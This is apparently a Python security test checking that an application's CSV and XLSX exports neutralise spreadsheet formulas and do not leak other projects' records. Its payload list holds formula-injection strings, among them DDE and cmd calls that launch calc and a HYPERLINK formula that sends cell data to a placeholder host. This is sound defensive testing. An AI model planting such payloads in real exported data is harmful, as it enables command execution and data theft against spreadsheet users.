"""B-06: texts that a spreadsheet would compute go in by the API and come out by every export.

A record of each kind carries them in each of its texts. Exported as .csv and .xlsx, as the whole folder, as the
rows that were wrong: no cell of a text may begin as a formula does, no formula, link or call of another
program may carry it, and what comes out is read in again as it was. Strangers' records may not come out with ours.
"""

import csv
import io
import json
import re
import zipfile

from proof.doors import SOUND, Doors, _file
from proof.row import Row

MARK = "HOLE"
HOSTILE = (
    f'=1+1&"{MARK}"',
    f"=cmd|' /C calc'!{MARK}",
    f'=HYPERLINK("http://{MARK}.example/?"&A1,"点")',
    f"+1+1+{MARK}",
    f"-2+3+{MARK}",
    f"@SUM({MARK})",
    f"\t=1+{MARK}",
    f"\r=1+{MARK}",
    f"\n=1+{MARK}",
    f"'=1+{MARK}",
    f"''=1+{MARK}",
    f"＝1+{MARK}",
    f"＠SUM({MARK})",
    f"＋{MARK}",
    f'=WEBSERVICE("http://{MARK}.example/")',
    f'=DDE("cmd","/C calc","{MARK}")',
    f";=1+{MARK}",
    f",=1+{MARK}",
    f'"=1+{MARK}',
    f" =1+{MARK}",
    f"\0=1+{MARK}",
    f'x","=1+{MARK}',
    f"x\n=1+{MARK}",
    f"\u200b=1+{MARK}",
    f"http://{MARK}.example/",
    f'{{"a": "={MARK}"}}',
)
BEGINS = re.compile(r"[\s\0]*[=+@＝＋＠-]")
NUMBER = re.compile(r"[+-]?[0-9.,]+%?")
COMPUTED = re.compile(rb"<f[ >][^<]*HOLE|<hyperlink|ddeLink|externalLink|<definedName[^<]*HOLE")

row = Row(
    "B-06",
    promises=("I-9",),
    sizes={"short": {"texts": 6}, "night": {"texts": len(HOSTILE)}},
    bars=(
        "kinds >= 20",
        "entered >= 60",
        "formulas = 0",
        "differing = 0",
        "foreign = 0",
        "exported = figure.entered",
        *SOUND,
    ),
)


@row.runs
def export(trial):
    """Enter, export, look into what came out, and put it in again."""
    doors = Doors(trial.room)
    from tests.support.cast import cast
    from tests.support.kept import give_text

    theirs = cast("乙")
    give_text(theirs.project)
    texts = trial.random.sample(HOSTILE, min(trial.size["texts"], len(HOSTILE)))
    entered = {kind: _entered(doors, kind, texts) for kind in _kinds()}
    _foreign(theirs, entered)
    formulas = differing = foreign = exported = 0
    for kind, count in entered.items():
        if not count:
            continue
        for ending in ("csv", "xlsx"):
            content = _got(doors, "operations:export", kind, format=ending)
            formulas += _formulas(ending, content)
            foreign += "乙方机密".encode() in _plain(ending, content)
            seen = doors.page.post(
                _address("upload", doors, kind), {"file": _file(f"{kind}.{ending}", content)}
            )
            told = _preview() if seen.status_code == 302 else None
            same = told.counts.get("same", 0) if told else 0
            differing += count - same if told else count
            exported += same if ending == "csv" else 0
            if same != count:
                print(
                    kind,
                    ending,
                    count,
                    told and told.counts,
                    seen.content.decode()[-2000:] if not told else "",
                )
        wrong = f"=1+{MARK},培训日期,培训内容\n=2+{MARK},昨天,=3+{MARK}\n".encode()
    seen = doors.page.post(_address("upload", doors, "training"), {"file": _file("错.csv", wrong)})
    if seen.status_code == 302:
        formulas += _formulas("csv", doors.page.get(f"{seen['Location']}wrong/").content)
    formulas += sum(_formulas(name.rpartition(".")[2], content) for name, content in _folder(doors))
    return {
        "kinds": sum(bool(count) for count in entered.values()),
        "entered": sum(entered.values()),
        "exported": exported,
        "formulas": formulas,
        "differing": differing,
        "foreign": foreign,
        **doors.figures(),
    }


def _preview():
    """Give what the last table that was put in would do."""
    from jiheng.web.operations import importing
    from jiheng.web.operations.models import PendingImport

    return importing.preview(PendingImport.objects.latest("uploaded_at"))


def _kinds():
    from tests.support.demonstration import registers

    return registers(2023)


def _entered(doors, kind, texts):
    """Enter one demonstration record of a kind for each hostile text; say how many were taken."""
    from jiheng.evidence.kinds import KINDS

    taken = 0
    lines = list(csv.DictReader(io.StringIO(_kinds()[kind])))
    free = [
        each.name
        for each in KINDS[kind].fields
        if each.form == "文字"
        and not each.choices
        and each.name not in ("id", "attachments", "supersedes", "reason")
    ]
    systems = [each.name for each in KINDS[kind].fields if each.form == "系统名称"]
    if not lines or not free:
        return 0
    for number, text in enumerate(texts):
        words = {name: value for name, value in lines[number % len(lines)].items() if value and name != "id"}
        words |= {name: text for name in free if name in words}
        words |= {name: "xf" for name in systems if name in words}
        doors.rates.__init__()
        answer = doors.page.post(
            f"/api/v1/projects/{doors.ours.project.pk}/records/{kind}",
            json.dumps({"values": words}),
            content_type="application/json",
            headers=doors.headers,
        )
        taken += answer.status_code == 201
    return taken


def _foreign(theirs, entered):
    """Give strangers a record of each kind that we have, with a text of their own."""
    from jiheng.web.evidence.models import Record

    for kind, count in entered.items():
        if count:
            one = Record.objects.filter(kind=kind).first()
            content = json.loads(one.content)
            words = {name: "乙方机密" if MARK in text else text for name, text in content.items()}
            Record.objects.create(
                project=theirs.project,
                kind=kind,
                position=1,
                record_id=f"{kind}-乙",
                happened_on=one.happened_on,
                content=json.dumps(words, ensure_ascii=False),
                entered_at=one.entered_at,
            )


def _address(name, doors, kind):
    from django.urls import reverse

    return reverse(f"operations:{name}", kwargs={"project_id": doors.ours.project.pk, "kind": kind})


def _got(doors, _name, kind, **given):
    return doors.page.get(_address("export", doors, kind), given).content


def _folder(doors):
    from django.urls import reverse

    answer = doors.page.get(reverse("evidence:folder", args=[doors.ours.project.pk]))
    with zipfile.ZipFile(io.BytesIO(b"".join(answer.streaming_content))) as archive:
        yield from ((each, archive.read(each)) for each in archive.namelist())


def _plain(ending, content):
    if ending != "xlsx":
        return content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(archive.read(each) for each in archive.namelist())


def _formulas(ending, content):
    """Count what a spreadsheet would compute."""
    if ending == "xlsx":
        return len(COMPUTED.findall(_plain(ending, content)))
    if ending != "csv":
        return 0
    cells = [
        cell for line in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in line
    ]
    found = [cell for cell in cells if BEGINS.match(cell) and not NUMBER.fullmatch(cell)]
    for each in found[:3]:
        print("formula:", repr(each))
    return len(found)
